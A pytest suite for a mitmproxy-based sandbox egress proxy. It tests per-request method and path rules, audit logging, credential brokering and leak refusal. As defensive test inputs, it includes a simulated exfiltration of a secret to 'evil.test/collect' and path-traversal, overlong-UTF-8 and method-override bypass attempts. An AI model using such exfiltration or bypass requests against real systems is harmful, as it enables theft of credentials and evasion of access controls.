"""Requests the proxy reads: method/path rules of inspected hosts, one `request` record each, credential brokering.

Most tests drive the Gate's hooks with what mitmproxy would hand them (taddons, tflow) for
decrypted HTTPS flows (scheme https, HTTP/1.1 and HTTP/2). One runs the real proxy on loopback
in front of a fake upstream, to prove by what the upstream saw that a refused request never
reaches it and that the kept-alive connection goes on after a refusal.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client as httpclient
import json
import socket
import threading
from collections.abc import Awaitable, Callable, Iterator
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar, Optional

import dns.message
import dns.rrset
import pytest
from mitmproxy import http
from mitmproxy.flow import Error
from mitmproxy.proxy.layers.http._hooks import (
    HttpConnectHook,
    HttpErrorHook,
    HttpRequestHeadersHook,
    HttpResponseHeadersHook,
    HttpResponseHook,
)
from mitmproxy.proxy.mode_specs import ProxyMode
from mitmproxy.test import taddons, tflow, tutils

from netguard import rules
from netguard.audit import AuditLog, read_records
from netguard.credentials import Secret
from netguard.daemon import standalone
from netguard.decision import inspected
from netguard.decision.binding import Binding
from netguard.decision.gate import Gate
from netguard.policy import parse_network
from netguard.spec import CaPair
from sgbase.origin import Origin

from ..support.dnsfake import FakeDns, standard_answer

SLOT = 3128
REAL = "sk-REALSECRETVALUE0123456789"
SECRET = Secret(
    host="api.test",
    header="Authorization",
    value=f"Bearer {REAL}",
    real=REAL,
    sentinel="sk-sandgate-sentinel-0f0f0f0f",
    variable="API_KEY",
    origin=Origin("p.yaml", 20),
)
POLICY: dict[str, Any] = {
    "allow": [
        {"host": "git.test", "http": ["read-only", {"methods": ["POST"], "paths": ["/*/*/git-upload-pack"]}]},
        {"host": "all.test", "inspect": True},
        {"host": "q.test", "inspect": True, "log_query": True},
        "api.test",
        "other.test",
    ],
}


@pytest.fixture
def resolver() -> Iterator[FakeDns]:
    srv = FakeDns(standard_answer)  # every name: 192.0.2.1
    try:
        yield srv
    finally:
        srv.close()


class World:
    def __init__(self, tmp_path: Path, resolver: FakeDns) -> None:
        pol = parse_network({**POLICY, "resolver": f"127.0.0.1:{resolver.port}"}, "p.yaml")
        self.log = tmp_path / "audit.jsonl"
        self.binding = Binding(
            "t1", rules.compile_policy(pol), AuditLog(self.log), ca=CaPair("CERT", "KEY"), secrets=(SECRET,)
        )
        self.gate = Gate({SLOT: self.binding})
        self.client = tflow.tclient_conn()
        self.client.proxy_mode = ProxyMode.parse(f"regular@127.0.0.1:{SLOT}")
        self.client.timestamp_tls_setup = 946681200.0  # the inspected TLS handshake is done

    def records(self, event: str | None = None) -> list[Any]:
        return [r for r in read_records(self.log) if event is None or r["event"] == event]

    def text(self) -> str:
        return self.log.read_text()


def flow(w: World, method: str, host: str, path: str, *, scheme: str = "https", h2: bool = False, **hdr: str) -> Any:
    """A request as a client sends it: with a Host (HTTP/2's :authority is read the same way by mitmproxy)."""
    hdr = {"Host": host, **hdr}
    req = tutils.treq(
        method=method.encode(),
        scheme=scheme.encode(),
        host=host,
        port=443 if scheme == "https" else 80,
        path=path.encode(),
        http_version=b"HTTP/2.0" if h2 else b"HTTP/1.1",
        headers=http.Headers([(k.replace("_", "-").encode(), v.encode()) for k, v in hdr.items()]),
    )
    return tflow.tflow(client_conn=w.client, req=req)


def drive(w: World, body: Callable[[taddons.context], Awaitable[None]]) -> None:
    async def main() -> None:
        with taddons.context(w.gate, loadcore=False) as tctx:  # type: ignore[no-untyped-call]  # mitmproxy
            await body(tctx)

    asyncio.run(main())


async def connect(tctx: taddons.context, w: World, host: str) -> None:
    """The CONNECT that opened the inspected tunnel: the connection's decision (and its id)."""
    req = tutils.treq(method=b"CONNECT", host=host, port=443, authority=f"{host}:443".encode(), path=b"")
    f = tflow.tflow(client_conn=w.client, req=req)
    await tctx.master.addons.invoke_addon(w.gate, HttpConnectHook(f))
    assert f.response is None


async def exchange(tctx: taddons.context, w: World, f: Any, status: int = 200) -> None:
    """requestheaders, then (unless refused there) the upstream's response."""
    await tctx.master.addons.invoke_addon(w.gate, HttpRequestHeadersHook(f))
    if f.response is None and f.error is None:
        f.response = tutils.tresp(status_code=status)
        await tctx.master.addons.invoke_addon(w.gate, HttpResponseHook(f))


# ---- method/path rules -------------------------------------------------------------------------


@pytest.mark.parametrize("h2", [False, True], ids=["http1.1", "http2"])
def test_requests_on_one_connection_are_each_judged_and_recorded(tmp_path: Path, resolver: FakeDns, h2: bool) -> None:
    w = World(tmp_path, resolver)
    fetch = flow(w, "POST", "git.test", "/o/r/git-upload-pack", h2=h2)
    push = flow(w, "POST", "git.test", "/o/r/git-receive-pack?service=x", h2=h2)
    after = flow(w, "GET", "git.test", "/o/r/info/refs?service=git-upload-pack", h2=h2)

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "git.test")
        for f in (fetch, push, after):  # one client connection: kept-alive or multiplexed
            await exchange(tctx, w, f)

    drive(w, body)
    assert fetch.response.status_code == 200 and after.response.status_code == 200
    refused = push.response
    assert refused.status_code == 403 and refused.headers["X-Sandgate"] == "blocked"
    assert "Connection" not in refused.headers  # the connection stays: other requests go on
    assert refused.http_version == ("HTTP/2.0" if h2 else "HTTP/1.1")
    text = refused.get_text()
    assert "POST /o/r/git-receive-pack on git.test" in text and "not allowed on git.test" in text
    assert "(rule p.yaml" in text
    (decision,) = w.records("decision")  # the CONNECT: one decision for the whole connection
    recs = w.records("request")
    assert [(r["method"], r["path"], r["action"], r["status"]) for r in recs] == [
        ("POST", "/o/r/git-upload-pack", "allow", 200),
        ("POST", "/o/r/git-receive-pack", "deny", 403),  # the query is cut: it may carry tokens
        ("GET", "/o/r/info/refs", "allow", 200),
    ]
    assert all(r["id"] == decision["id"] and r["kind"] == "connect" and r["leak"] is None for r in recs)
    assert recs[0]["rule"] is not None and recs[0]["rule"].startswith("p.yaml")
    assert w.records("close") == []  # inspected requests write `request`, never `close` as well


def test_the_query_is_kept_only_when_the_rule_says_log_query(tmp_path: Path, resolver: FakeDns) -> None:
    w = World(tmp_path, resolver)

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "q.test")
        await exchange(tctx, w, flow(w, "GET", "q.test", "/s?q=1"))
        await connect(tctx, w, "all.test")
        await exchange(tctx, w, flow(w, "DELETE", "all.test", "/x?token=abc"))  # inspect: every request allowed

    drive(w, body)
    assert [(r["host"], r["method"], r["path"], r["action"]) for r in w.records("request")] == [
        ("q.test", "GET", "/s?q=1", "allow"),
        ("all.test", "DELETE", "/x", "allow"),
    ]
    assert "token=abc" not in w.text()


def test_an_upstream_failure_is_one_record_with_no_status(tmp_path: Path, resolver: FakeDns) -> None:
    w = World(tmp_path, resolver)
    f = flow(w, "GET", "all.test", "/")

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "all.test")
        await tctx.master.addons.invoke_addon(w.gate, HttpRequestHeadersHook(f))
        f.error = Error("Certificate verify failed: unable to get local issuer certificate")
        await tctx.master.addons.invoke_addon(w.gate, HttpErrorHook(f))
        await tctx.master.addons.invoke_addon(w.gate, HttpErrorHook(f))  # asked twice: still one record

    drive(w, body)
    (rec,) = w.records("request")
    assert rec["status"] is None and rec["action"] == "allow" and "Certificate verify failed" in rec["reason"]


def test_a_request_for_a_host_not_inspected_is_refused_on_an_inspected_connection(
    tmp_path: Path, resolver: FakeDns
) -> None:
    w = World(tmp_path, resolver)
    fronted = flow(w, "GET", "other.test", "/")  # TLS to all.test, Host: other.test (passthrough)

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "all.test")
        await exchange(tctx, w, fronted)

    drive(w, body)
    assert fronted.response.status_code == 403 and "other.test is not inspected" in fronted.response.get_text()
    assert [r["action"] for r in w.records("request")] == ["deny"]


def test_transparent_inspected_requests_share_one_decision(tmp_path: Path, resolver: FakeDns) -> None:
    w = World(tmp_path, resolver)
    w.client.proxy_mode = ProxyMode.parse(f"transparent@127.0.0.1:{SLOT}")
    flows = [flow(w, "GET", "198.51.100.9", p) for p in ("/1", "/2")]  # the original address: not trusted
    for f in flows:
        f.request.headers["Host"] = "All.Test"

    async def body(tctx: taddons.context) -> None:
        for f in flows:
            await exchange(tctx, w, f)

    drive(w, body)
    (decision,) = w.records("decision")  # decided once for the connection, by name
    assert decision["host"] == "all.test" and decision["action"] == "allow"
    assert [(r["host"], r["path"], r["id"]) for r in w.records("request")] == [
        ("all.test", "/1", decision["id"]),
        ("all.test", "/2", decision["id"]),
    ]


def test_a_refused_request_whose_body_would_be_streamed_is_refused_by_closing(
    tmp_path: Path, resolver: FakeDns
) -> None:
    """A body of unknown length is held (up to stream_large_bodies) and answered with the 403; only a
    declared body past the limit, which mitmproxy would stream, is refused by closing."""
    w = World(tmp_path, resolver)
    small = flow(w, "PUT", "git.test", "/x", h2=True, content_length="4")
    unknown = flow(w, "PUT", "git.test", "/x", h2=True)  # HTTP/2, no content-length: may be any size
    chunked = flow(w, "PUT", "git.test", "/x", transfer_encoding="chunked")
    big = flow(w, "PUT", "git.test", "/x", content_length=str(2 << 20))
    get = flow(w, "GET", "git.test", "/o/r/info/refs", h2=True)

    async def body(tctx: taddons.context) -> None:
        # as netguard.daemon.master sets it (loadcore=False leaves the option out)
        tctx.options.add_option("stream_large_bodies", Optional[str], "1m", "")  # noqa: UP045
        await connect(tctx, w, "git.test")
        for f in (small, unknown, chunked, big, get):
            await exchange(tctx, w, f)

    drive(w, body)
    for f in (small, unknown, chunked):
        assert f.response is not None and f.response.status_code == 403
    assert get.response is not None and get.response.status_code == 200
    assert big.response is None and big.error is not None and big.error.msg == Error.KILLED_MESSAGE
    recs = w.records("request")
    assert [(r["status"], r["reason"].endswith("(body too large to drain: closed)")) for r in recs] == [
        (403, False),
        (403, False),
        (403, False),
        (403, True),
        (200, False),
    ]


def test_plain_http_to_an_inspected_host_writes_its_decision_then_a_request_record(
    tmp_path: Path, resolver: FakeDns
) -> None:
    w = World(tmp_path, resolver)
    w.client.timestamp_tls_setup = None
    ok = flow(w, "GET", "git.test", "/a?x=1", scheme="http")
    refused = flow(w, "PUT", "git.test", "/a", scheme="http")

    async def body(tctx: taddons.context) -> None:
        await exchange(tctx, w, ok)
        await exchange(tctx, w, refused)

    drive(w, body)
    assert ok.response.status_code == 200 and refused.response.status_code == 403
    decisions, requests = w.records("decision"), w.records("request")
    assert [d["url"] for d in decisions] == ["http://git.test/a", "http://git.test/a"]  # query cut here too
    assert [(r["id"], r["action"], r["kind"]) for r in requests] == [
        (decisions[0]["id"], "allow", "http"),
        (decisions[1]["id"], "deny", "http"),
    ]
    assert w.records("close") == []


@pytest.mark.parametrize("h2", [False, True], ids=["http1.1", "http2"])
def test_ambiguous_paths_overrides_and_upgrades_are_refused_at_the_gate(
    tmp_path: Path, resolver: FakeDns, h2: bool
) -> None:
    """Issue 24 through the Gate's hook: each a 403 and a `deny` record naming why; the controls pass."""
    w = World(tmp_path, resolver)
    tricks = [
        flow(w, "POST", "git.test", "/o/r/git-upload-pack/..%2fgit-receive-pack", h2=h2),
        flow(w, "POST", "git.test", "/o/r/git-upload-pack;x", h2=h2),
        flow(w, "GET", "git.test", "/o/r/%c0%ae%c0%ae/x", h2=h2),
        flow(w, "POST", "git.test", "/o/r/git-upload-pack", h2=h2, X_HTTP_Method_Override="DELETE"),
        flow(w, "POST", "git.test", "/o/r/git-upload-pack", h2=h2, x_method_override="PUT"),
        flow(w, "GET", "git.test", "/o/r/info/refs", h2=h2, Connection="Upgrade", Upgrade="websocket"),
    ]
    controls = [flow(w, "POST", "git.test", "/o/r/git-upload-pack", h2=h2), flow(w, "GET", "git.test", "/@a%2fb")]

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "git.test")
        for f in [*tricks, *controls]:
            await exchange(tctx, w, f)

    drive(w, body)
    assert [f.response.status_code for f in tricks] == [403] * len(tricks)
    assert [f.response.status_code for f in controls] == [200, 200]
    recs = w.records("request")
    assert [r["action"] for r in recs] == ["deny"] * len(tricks) + ["allow"] * 2
    whys = [r["reason"] for r in recs[: len(tricks)]]
    assert "path is not canonical: a segment of dots only once read as" in whys[0]
    assert "';' path parameter" in whys[1] and "overlong UTF-8" in whys[2]
    assert "method-override header (X-HTTP-Method-Override)" in whys[3]
    assert "method-override header (x-method-override)" in whys[4]
    assert "a WebSocket upgrade of GET /o/r/info/refs not allowed" in whys[5]
    assert all(t.response.get_text().startswith("sandgate: request refused: ") for t in tricks)


# ---- credentials -------------------------------------------------------------------------------


@pytest.mark.parametrize("h2", [False, True], ids=["http1.1", "http2"])
def test_the_bound_host_gets_the_real_header_and_the_sentinel_swapped(
    tmp_path: Path, resolver: FakeDns, h2: bool
) -> None:
    w = World(tmp_path, resolver)
    f = flow(w, "POST", "api.test", "/v1/chat", h2=h2, Authorization=f"Bearer {SECRET.sentinel}")
    f.request.headers["X-Api-Key"] = SECRET.sentinel
    bare = flow(w, "GET", "api.test", "/v1/models", h2=h2)  # the SDK sent no header: it is added

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "api.test")
        await exchange(tctx, w, f)
        await exchange(tctx, w, bare)

    drive(w, body)
    assert f.request.headers.get_all("Authorization") == [f"Bearer {REAL}"]
    assert f.request.headers["X-Api-Key"] == REAL
    assert bare.request.headers["Authorization"] == f"Bearer {REAL}"
    if h2:
        assert (b"authorization", f"Bearer {REAL}".encode()) in bare.request.headers.fields
    assert [r["action"] for r in w.records("request")] == ["allow", "allow"]
    assert REAL not in w.text() and SECRET.sentinel not in w.text()


@pytest.mark.parametrize(
    ("scheme", "host", "path", "headers", "where"),
    [
        ("https", "all.test", "/", {"Authorization": f"Bearer {SECRET.sentinel}"}, "header Authorization"),
        ("https", "all.test", f"/?k={SECRET.sentinel}", {}, "the URL"),
        ("https", "all.test", "/%73k-sandgate-sentinel-0f0f0f0f", {}, "the URL"),  # escaped: the same sentinel
        ("https", "all.test", "/", {"X-Debug": REAL}, "header X-Debug"),  # the real value, should it get in
        ("http", "api.test", "/", {"Authorization": f"Bearer {SECRET.sentinel}"}, "header Authorization"),
        ("http", "other.test", f"/{SECRET.sentinel}", {}, "the URL"),  # plain HTTP, not inspected: still read
    ],
    ids=["header-other-host", "query", "escaped", "real-value", "bound-host-plain-http", "plain-not-inspected"],
)
def test_a_sentinel_anywhere_else_is_refused_as_an_attempted_leak(
    tmp_path: Path, resolver: FakeDns, scheme: str, host: str, path: str, headers: dict[str, str], where: str
) -> None:
    w = World(tmp_path, resolver)
    w.client.timestamp_tls_setup = 946681200.0 if scheme == "https" else None
    f = flow(w, "GET", host, path, scheme=scheme)
    for k, v in headers.items():
        f.request.headers[k] = v
    allowed = flow(w, "GET", host, "/fine", scheme=scheme)

    async def body(tctx: taddons.context) -> None:
        if scheme == "https":
            await connect(tctx, w, host)
        await exchange(tctx, w, f)
        await exchange(tctx, w, allowed)

    drive(w, body)
    assert f.response.status_code == 403 and allowed.response.status_code == 200
    text = f.response.get_text()
    assert "attempted credential leak" in text and f"$API_KEY (bound to api.test) sent to {host} in {where}" in text
    leak = next(r for r in w.records("request") if r["leak"] is not None)
    assert (leak["leak"], leak["action"], leak["status"], leak["rule"]) == ("API_KEY", "deny", 403, "p.yaml:20")
    assert REAL not in w.text() and REAL not in text
    assert SECRET.sentinel not in w.text()  # shown as ${API_KEY}


def test_a_sentinel_sent_to_a_denied_host_is_a_denial_and_an_attempted_leak(tmp_path: Path, resolver: FakeDns) -> None:
    w = World(tmp_path, resolver)
    w.client.timestamp_tls_setup = None
    f = flow(w, "GET", "evil.test", f"/collect?k={SECRET.sentinel}", scheme="http")
    plain = flow(w, "GET", "evil.test", "/", scheme="http")

    async def body(tctx: taddons.context) -> None:
        await exchange(tctx, w, f)
        await exchange(tctx, w, plain)

    drive(w, body)
    assert f.response.status_code == 403 and "blocked evil.test:80" in f.response.get_text()
    assert [d["action"] for d in w.records("decision")] == ["deny", "deny"]
    (leak,) = w.records("request")  # only the request that carried it
    assert (leak["leak"], leak["host"], leak["path"], leak["id"]) == (
        "API_KEY",
        "evil.test",
        "/collect",
        w.records("decision")[0]["id"],
    )
    assert SECRET.sentinel not in w.text()  # the decision's url is redacted too


def test_redaction_and_broker_are_pure() -> None:
    assert inspected.redact(f"a {REAL} b {SECRET.sentinel}", (SECRET,)) == "a ${API_KEY} b ${API_KEY}"
    assert inspected.logged_path("/p?q", False, ()) == "/p" and inspected.logged_path("/p?q", True, ()) == "/p?q"
    fields = [("Accept", "*/*"), ("authorization", "x"), ("Authorization", "y"), ("X", SECRET.sentinel)]
    assert inspected.broker(fields, (SECRET,), "api.test") == [
        ("Accept", "*/*"),
        ("Authorization", f"Bearer {REAL}"),
        ("X", REAL),
        ("Accept-Encoding", "identity"),  # an echo of the value must stay readable for Scrub
    ]
    gz = [("accept-encoding", "gzip, br"), ("authorization", "x")]
    assert inspected.broker(gz, (SECRET,), "api.test", lower=True) == [
        ("accept-encoding", "identity"),
        ("authorization", f"Bearer {REAL}"),
    ]
    assert inspected.broker(fields, (SECRET,), "other.test") == fields


def test_an_upstream_echoing_the_real_value_never_hands_it_to_the_sandbox(tmp_path: Path, resolver: FakeDns) -> None:
    w = World(tmp_path, resolver)
    f = flow(w, "GET", "api.test", "/debug/headers", Authorization=f"Bearer {SECRET.sentinel}")
    half = len(REAL) // 2
    chunks = [b'{"auth": "Bearer ' + REAL[:half].encode(), REAL[half:].encode() + b'"}', b""]  # cut mid-value

    async def body(tctx: taddons.context) -> None:
        await connect(tctx, w, "api.test")
        await tctx.master.addons.invoke_addon(w.gate, HttpRequestHeadersHook(f))
        f.response = tutils.tresp(headers=http.Headers([(b"X-Echo", f"Bearer {REAL}".encode())]))
        await tctx.master.addons.invoke_addon(w.gate, HttpResponseHeadersHook(f))

    drive(w, body)
    assert f.request.headers["Authorization"] == f"Bearer {REAL}"  # the upstream got the real header
    assert f.response.headers["X-Echo"] == f"Bearer {SECRET.sentinel}"  # the sandbox gets the sentinel back
    stream = f.response.stream
    assert callable(stream)
    out = b"".join(stream(c) for c in chunks)
    assert out == b'{"auth": "Bearer ' + b"*" * len(REAL) + b'"}'  # same length: Content-Length stays true


def test_scrub_passes_everything_else_through_in_order() -> None:
    counted: list[int] = []

    def inner(b: bytes) -> bytes:
        counted.append(len(b))
        return b

    scrub = inspected.Scrub(inner, (SECRET,))
    data = [b"hello ", b"world " * 10, b"sk-REAL", b""]
    assert b"".join(scrub(c) for c in data) == b"".join(data)
    assert sum(counted) == sum(map(len, data))


# ---- the real proxy, a fake upstream ------------------------------------------------------------


class _Upstream(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # kept alive
    seen: ClassVar[list[tuple[str, str]]] = []

    def _answer(self) -> None:
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        type(self).seen.append((self.command, self.path))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = _answer

    def log_message(self, *args: Any) -> None:
        pass


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _loopback(q: dns.message.Message, proto: str) -> dns.message.Message | None:
    r = dns.message.make_response(q)
    r.answer.append(dns.rrset.from_text(q.question[0].name, 60, "IN", "A", "127.0.0.1"))
    return r


@contextlib.contextmanager
def live_proxy(b: Binding) -> Iterator[int]:
    """The real proxy (netguard.daemon.standalone) for `b` on a loopback port, in a thread of its own."""
    proxy_port = _free_port()
    ready, loop_box = threading.Event(), []

    async def run() -> None:
        stop = asyncio.Event()
        loop_box.append((asyncio.get_running_loop(), stop))
        await standalone.serve([(standalone.Listeners(regular=("127.0.0.1", proxy_port)), b)], ready.set, stop)

    t = threading.Thread(target=asyncio.run, args=(run(),), daemon=True)
    t.start()
    try:
        assert ready.wait(10)
        yield proxy_port
    finally:
        loop, stop = loop_box[0]
        loop.call_soon_threadsafe(stop.set)
        t.join(10)


def test_a_refused_request_never_reaches_the_upstream_and_the_connection_goes_on(tmp_path: Path) -> None:
    _Upstream.seen = []
    up = ThreadingHTTPServer(("127.0.0.1", 0), _Upstream)
    threading.Thread(target=up.serve_forever, daemon=True).start()
    port = up.server_address[1]
    fake_dns = FakeDns(_loopback)  # up.test: 127.0.0.1, opened by the cidr rule below
    pol = parse_network(
        {
            "allow": [
                {"host": "up.test", "ports": [port], "http": ["read-only"]},
                {"cidr": "127.0.0.1/32", "ports": [port]},
            ],
            "resolver": f"127.0.0.1:{fake_dns.port}",
        },
        "p.yaml",
    )
    log = tmp_path / "audit.jsonl"
    b = Binding("t1", rules.compile_policy(pol), AuditLog(log), ca=CaPair("C", "K"), secrets=(SECRET,))
    try:
        with live_proxy(b) as proxy_port:
            conn = HTTPConnection("127.0.0.1", proxy_port, timeout=10)
            got, socks = [], []
            for method, path, hdr in [
                ("GET", "/a", {}),
                ("POST", "/push", {}),
                ("GET", "/b", {"X-Token": SECRET.sentinel}),
                ("GET", "/c", {}),
            ]:
                body = b"data" if method == "POST" else None
                conn.request(method, f"http://up.test:{port}{path}", body=body, headers=hdr)
                r = conn.getresponse()
                got.append((r.status, r.read().decode()))
                socks.append(conn.sock)  # http.client drops its socket when told Connection: close
            assert conn.sock is not None and all(s is socks[0] for s in socks), got  # one connection all along
            with pytest.raises((ConnectionError, httpclient.RemoteDisconnected)):  # the cut may come mid-send
                conn.request("POST", f"http://up.test:{port}/big", body=b"d" * (2 << 20))  # streamed: no 403
                conn.getresponse()
            conn.close()
    finally:
        up.shutdown()
        fake_dns.close()
    assert [s for s, _ in got] == [200, 403, 403, 200], got
    assert "POST /push on up.test" in got[1][1] and "attempted credential leak" in got[2][1]
    assert _Upstream.seen == [("GET", "/a"), ("GET", "/c")]  # what the upstream saw: the allowed only
    recs = [json.loads(line) for line in log.read_text().splitlines()]
    assert [(r["method"], r["status"], r["leak"], r["bytes_down"]) for r in recs if r["event"] == "request"] == [
        ("GET", 200, None, 2),
        ("POST", 403, None, 0),
        ("GET", 403, "API_KEY", 0),
        ("GET", 200, None, 2),
        ("POST", 403, None, 0),  # refused by closing: the body was too large to hold for a 403
    ]


def test_body_leak_finds_the_sentinel_or_the_real_value_and_names_neither() -> None:
    assert inspected.body_leak((SECRET,), "other.test", b"token=none") is None
    for body in (f"token={SECRET.sentinel}".encode(), f'{{"k": "{REAL}"}}'.encode(), b"\xff" + REAL.encode()):
        j = inspected.body_leak((SECRET,), "other.test", body)
        assert j is not None and not j.allowed and j.leak == "API_KEY" and "the body" in j.reason
        assert REAL not in j.reason and SECRET.sentinel not in j.reason
